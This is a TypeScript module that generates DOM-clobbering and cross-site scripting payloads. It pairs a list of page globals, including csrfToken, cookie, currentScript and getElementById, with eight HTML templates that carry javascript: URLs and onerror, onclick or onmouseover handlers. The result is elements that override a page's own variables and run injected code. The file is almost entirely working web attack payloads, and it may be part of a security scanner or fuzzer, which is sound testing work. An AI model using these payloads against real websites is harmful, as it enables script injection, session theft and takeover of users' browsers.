import { type Make, pairs } from './kit.ts';

/** What scripts of a page look up by name: settings of their own, and properties of the document. */
export const NAMES: readonly string[] = [
  'config',
  'settings',
  'user',
  'app',
  'csrfToken',
  'analytics',
  'env',
  'debug',
  'plugins',
  'routes',
  'initialState',
  'api',
  'cookie',
  'body',
  'head',
  'forms',
  'images',
  'links',
  'scripts',
  'domain',
  'referrer',
  'title',
  'URL',
  'baseURI',
  'implementation',
  'documentElement',
  'defaultView',
  'currentScript',
  'getElementById',
  'querySelector',
  'createElement',
  'addEventListener',
  'write',
];

const SHAPES: readonly ((name: string, run: string) => string)[] = [
  (name, run) => `<a id=${name} href="javascript:${run}">x</a>`,
  (name, run) => `<img name=${name} src=x onerror=${run}>`,
  (name, run) => `<form name=${name} onmouseover=${run}><input name=url></form>`,
  (name, run) => `<a id=${name}></a><a id=${name} name=url href="javascript:${run}">x</a>`,
  (name, run) => `<iframe name=${name} srcdoc="<a id=url href='javascript:parent.${run}'>x</a>"></iframe>`,
  (name, run) => `<object id="${name}" data=x onerror=${run}></object>`,
  (name, run) => `<form id='${name}'><button name=attributes onclick=${run}>x</button></form>`,
  (name, run) => `<embed name=${name} src="javascript:${run}">`,
];

/** Elements that take the place of what a page's own scripts look up. */
export function clobbering(): Make[] {
  return pairs(NAMES, SHAPES).map(
    ([name, shape]) =>
      (run) =>
        shape(name, run),
  );
}
